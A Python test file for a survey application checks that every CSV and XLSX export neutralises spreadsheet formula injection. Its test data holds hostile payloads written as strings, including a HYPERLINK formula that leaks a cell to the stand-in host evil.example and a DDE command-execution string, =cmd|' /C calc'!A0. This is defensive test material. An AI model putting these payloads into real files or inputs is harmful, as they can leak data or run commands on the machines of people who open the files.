"""Exports stay inert (issue 11 item 3): hostile text typed through every entry point comes out of
every CSV and XLSX the product writes as text a spreadsheet shows, never as a live formula; and
what the product writes reads back as it was."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from factories import CATALOG, LEAVES, YEAR
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select
from support import DEMO_DATA, form_tokens, full_answers, login_as

from scoring_bridge import SipasFigure
from survey_app.cli.main import main
from survey_app.csv_files import read_csv
from survey_app.db import get_db, utcnow
from survey_app.db.models import ParPoints, Response, SurveyRound, Unit
from survey_app.par.files.catalogs import (
    catalog_csv,
    catalog_xlsx,
    read_catalog_csv,
    read_catalog_xlsx,
)
from survey_app.par.scoring import store_sipas
from survey_app.spreadsheets import DANGEROUS, dict_writer, inert, needs_quote, restore
from survey_app.survey.counters import add_counter
from survey_app.survey.rounds import create_round
from survey_app.survey.units_import import import_units
from survey_app.trust.paper import key_form, key_second_entry, resolve
from survey_app.trust.review import set_state

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"f")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
"""The attack's texts (a tab or carriage return first is lost where the product cleans text)."""
NAME = '=HYPERLINK("http://evil.example/?x="&A1,"f")'
ROUND = "@Đợt độc"
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


# --- the helper ----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "text",
    [*HOSTILE, "'=1", "''+x", "'", "''", "'-2", "-", "=", "a=b", "", "Tốt", "'Tốt", " =1"],
)
def test_inert_quotes_formula_like_text_and_restore_gives_it_back(text: str) -> None:
    written = inert(text)
    assert restore(written) == text
    assert not (written[:1] in DANGEROUS and not _NUMBER.fullmatch(written))
    assert (written != text) == needs_quote(text)


@pytest.mark.parametrize("value", [-2, -0.5, 3, 1.25, None, True, date(2026, 1, 1)])
def test_numbers_and_other_values_are_never_touched(value: object) -> None:
    assert inert(value) is value


@pytest.mark.parametrize("text", ["-2", "-0.125", "+3", "-1e-05", "12"])
def test_a_text_that_is_a_plain_number_stays_a_number(text: str) -> None:
    assert inert(text) == text and restore(text) == text


def test_a_negative_figure_stays_a_number_in_csv_and_xlsx() -> None:
    out = io.StringIO()
    writer = dict_writer(out, ["unit_code", "change"])
    writer.writeheader()
    writer.writerow({"unit_code": "-X", "change": -2.5})
    assert out.getvalue() == "unit_code,change\n'-X,-2.5\n"


# --- checking a file -----------------------------------------------------------------------------
def _live(cell: str) -> bool:
    return cell[:1] in DANGEROUS and not _NUMBER.fullmatch(cell)


def assert_inert_csv(text: str, *, expect: str | None = None) -> list[list[str]]:
    """No cell of ``text`` starts like a formula; ``expect`` (quoted) is found when given."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if _live(cell)]
    assert not live, live
    if expect is not None:
        assert "'" + expect in cells, (expect, cells)
    return rows


def assert_inert_xlsx(data: bytes, *, expect: str | None = None) -> None:
    """No formula cell; every text starting like a formula is a quote-prefixed string cell."""
    book = load_workbook(io.BytesIO(data))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in DANGEROUS:
                    assert cell.data_type == "s" and cell.quotePrefix, cell.value
                    found.append(cell.value)
    if expect is not None:
        assert expect in found, (expect, found)


# --- every entry point, every export -------------------------------------------------------------
@pytest.fixture
def hostile(app: Flask) -> dict[str, object]:
    """Units and a counter named like formulas, a round named like one, answers whose comments
    are the attack's texts, an excluded answer with a formula-like reason."""
    with app.app_context(), get_db().begin() as session:
        report = import_units(
            session, DEMO_DATA / "vinh-long-province.csv", valid_from=date(2020, 1, 1)
        )
        assert report.ok, report.errors
        text = io.StringIO()
        writer = csv.writer(text)
        writer.writerow(["code", "name", "level", "parent_code", "ranked"])
        writer.writerow(["SNV", NAME, "department", "86", "true"])
        writer.writerow(["BDT", "+Ban Dân tộc", "department", "86", "true"])
        report = import_units(session, text.getvalue().encode(), valid_from=date(2020, 1, 1))
        assert report.ok, report.errors
        units = session.query(Unit).filter(Unit.code.in_(["SNV", "BDT"])).all()
        for unit in units:
            add_counter(session, unit, f"{unit.code}-1", "=cmd|' /C calc'!A0")
        now = utcnow()
        survey_round = create_round(
            session,
            name=ROUND,
            questionnaire_id="sipas-2023",
            questionnaire_version=1,
            opens_at=now - timedelta(hours=1),
            closes_at=now + timedelta(days=30),
            units=units,
        )
        round_id = survey_round.id
    for comment in HOSTILE:
        for counter in ("SNV-1", "BDT-1"):
            phone = app.test_client()  # a phone each (the per-form limit)
            tokens = form_tokens(phone.get(f"/s/{counter}").get_data(as_text=True))
            answers = {**tokens, **full_answers("4"), "comment": comment}
            assert phone.post(f"/s/{counter}", data=answers).status_code == 303
    with app.app_context(), get_db().begin() as session:
        first = session.scalar(select(Response.id).order_by(Response.id))
        set_state(session, [first], "excluded", "-2+3 nhân viên tự điền", "=nv.admin")
    return {"round_id": round_id}


@pytest.fixture
def staff(app: Flask, client: FlaskClient) -> FlaskClient:
    return login_as(app, client, "admin", username="nv.admin")


def test_the_responses_export_holds_no_live_formula(
    app: Flask, hostile: dict, staff: FlaskClient
) -> None:
    reply = staff.get(f"/admin/export/responses.csv?round={ROUND}&include_excluded=1")
    rows = assert_inert_csv(reply.get_data(as_text=True), expect=NAME)
    comments = [restore(row[-1]) for row in rows[1:]]
    assert sorted(set(comments)) == sorted({" ".join(c.split()) or c for c in HOSTILE} | set())
    assert {restore(row[1]) for row in rows[1:]} == {ROUND}
    assert {restore(row[3]) for row in rows[1:]} == {"SNV-1", "BDT-1"}
    reply = staff.get("/admin/export/responses.xlsx?include_excluded=1")
    assert_inert_xlsx(reply.data, expect=NAME)
    book = load_workbook(io.BytesIO(reply.data))
    values = [row[-1] for row in book.active.iter_rows(min_row=2, values_only=True)]
    assert set(values) == set(comments)  # the same texts, unquoted: the cell is marked instead


def test_progress_plan_results_and_events_hold_no_live_formula(
    app: Flask, hostile: dict, staff: FlaskClient
) -> None:
    rid = hostile["round_id"]
    assert_inert_csv(
        staff.get(f"/admin/rounds/{rid}/progress.csv").get_data(as_text=True), expect=NAME
    )
    assert_inert_xlsx(staff.get(f"/admin/rounds/{rid}/progress.xlsx").data, expect=NAME)
    events = staff.get(f"/admin/review/{rid}/events.csv").get_data(as_text=True)
    assert_inert_csv(events, expect="-2+3 nhân viên tự điền")
    for fmt in ("csv", "xlsx"):
        reply = staff.get(f"/admin/results/{rid}/results.{fmt}")
        assert reply.status_code == 200
        if fmt == "csv":
            assert_inert_csv(reply.get_data(as_text=True))
        else:
            assert_inert_xlsx(reply.data)


def test_the_audit_csv_holds_no_live_formula(app: Flask, hostile: dict) -> None:
    stranger = app.test_client()
    page = stranger.get("/admin/login").get_data(as_text=True)
    refused = stranger.post(
        "/admin/login",
        data={**form_tokens(page), "username": "=cmd|' /C calc'!A0", "password": "x"},
    )
    assert refused.status_code == 401
    staff = login_as(app, role="admin", username="nv.admin")
    assert_inert_csv(
        staff.get("/admin/audit.csv").get_data(as_text=True), expect="=cmd|' /C calc'!A0"
    )


def test_paper_disagreements_hold_no_live_formula(app: Flask, hostile: dict) -> None:
    rid = hostile["round_id"]
    values = {**full_answers("4"), "service_field": "2", "gender": "1", "visit": "2"}
    with app.app_context(), get_db().begin() as session:
        survey_round = session.get(SurveyRound, rid)
        unit = session.scalar(select(Unit).where(Unit.code == "SNV"))
        key_form(
            session,
            survey_round,
            unit,
            "7",
            {**values, "comment": "+1+1"},
            "nv.a",
            settings=app.config,
        )
        key_second_entry(session, survey_round, "7", {**values, "comment": "@SUM(1+1)"}, "nv.b")
        resolve(session, survey_round, "7", "comment", "-2+3", "nv.c", '=HYPERLINK("x")')
    staff = login_as(app, role="admin", username="nv.admin")
    text = staff.get(f"/admin/paper/{rid}/disagreements.csv").get_data(as_text=True)
    rows = assert_inert_csv(text, expect="@SUM(1+1)")
    assert "'+1+1" in rows[1] and '\'=HYPERLINK("x")' in rows[1]


def test_par_outputs_hold_no_live_formula(app: Flask, hostile: dict) -> None:
    with app.app_context(), get_db().begin() as session:
        units = {u.code: u for u in session.scalars(select(Unit))}
        for code in ("SNV", "BDT"):
            for leaf in LEAVES:
                session.add(
                    ParPoints(
                        year=YEAR,
                        unit_id=units[code].id,
                        code=leaf.code,
                        self_points=leaf.max_points,
                        final_points=leaf.max_points * 0.9,
                        note="=cmd|' /C calc'!A0",
                    )
                )
        store_sipas(session, YEAR, {c: SipasFigure(80.0, 75.0, 85.0) for c in units}, "test")
    staff = login_as(app, role="admin", username="nv.admin")
    reply = staff.get(f"/admin/par/{YEAR}/ranking.csv")
    assert reply.status_code == 200
    assert_inert_csv(reply.get_data(as_text=True), expect=NAME)
    reply = staff.get(f"/admin/par/{YEAR}/ranking.xlsx")
    assert_inert_xlsx(reply.data, expect=NAME)


# --- CLI files and reading back -----------------------------------------------------------------
@pytest.fixture
def sipas(app: Flask, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("DATABASE_URL", app.config["DATABASE_URL"])
    monkeypatch.setenv("BASE_URL", "http://sipas.test")
    monkeypatch.setenv("SECRET_KEY", "test-secret-key")
    runner = CliRunner()
    return lambda *args: runner.invoke(main, list(args), catch_exceptions=False)


def test_sample_and_receipt_code_lists_are_inert_and_read_back(
    app: Flask, hostile: dict, sipas, tmp_path: Path
) -> None:
    frame = tmp_path / "dossiers.csv"
    notes = [HOSTILE[i % 5] for i in range(40)]
    with frame.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["dossier_code", "unit_code", "ghi_chu"])
        for i, note in enumerate(notes):
            writer.writerow([f"HS-{i:03d}", "SNV" if i % 2 else "BDT", note])
    plan = tmp_path / "plan.csv"
    plan.write_text("unit_code,sample_size\nSNV,5\nBDT,5\nTOTAL,10\n", encoding="utf-8")
    sample = tmp_path / "sample.csv"
    result = sipas(
        "draw", "--frame", str(frame), "--plan", str(plan), "--seed", "1", "--out", str(sample)
    )
    assert result.exit_code == 0, result.output
    assert_inert_csv(sample.read_text(encoding="utf-8"), expect="+1+1")
    out = tmp_path / "tokens.csv"
    result = sipas("tokens", "issue", "--frame", str(sample), "--round", ROUND, "--out", str(out))
    assert result.exit_code == 0, result.output
    assert_inert_csv(out.read_text(encoding="utf-8"), expect="@SUM(1+1)")
    by_code = {f"HS-{i:03d}": note for i, note in enumerate(notes)}
    _, rows, problems = read_csv(out)
    assert not problems and len(rows) == 10
    assert all(row["ghi_chu"] == by_code[row["dossier_code"]] for row in rows)


def test_results_and_plans_written_by_the_cli_read_back(
    app: Flask, hostile: dict, sipas, tmp_path: Path
) -> None:
    results = tmp_path / "results.csv"
    result = sipas("analyze", "--round", ROUND, "--out", str(results))
    assert result.exit_code == 0, result.output
    assert_inert_csv(results.read_text(encoding="utf-8"))
    populations = tmp_path / "populations.csv"
    populations.write_text("unit_code,population\nSNV,500\nBDT,300\n", encoding="utf-8")
    plan = tmp_path / "plan.csv"
    result = sipas(
        "plan",
        "--populations",
        str(populations),
        "--method",
        "per-unit",
        "--margin",
        "0.05",
        "--out",
        str(plan),
    )
    assert result.exit_code == 0, result.output
    _, rows, problems = read_csv(plan)
    assert not problems and {r["unit_code"] for r in rows} >= {"SNV", "BDT"}


def test_a_catalog_with_formula_like_names_reads_back_as_written() -> None:
    renamed = [
        replace(c, name=f"{HOSTILE[i % 5]} {c.name}") for i, c in enumerate(CATALOG.criteria)
    ]
    catalog = replace(CATALOG, criteria=tuple(renamed))
    text = catalog_csv(catalog)
    assert_inert_csv(text, expect=renamed[2].name)
    result = read_catalog_csv(text.encode("utf-8"), year=YEAR)
    assert result.ok, result.problems
    assert [c.name for c in result.value.criteria] == [c.name for c in renamed]
    data = catalog_xlsx([catalog])
    assert_inert_xlsx(data, expect=renamed[2].name)
    (back,) = read_catalog_xlsx(data, year=YEAR).values()
    assert back.ok, back.problems
    assert [c.name for c in back.value.criteria] == [c.name for c in renamed]
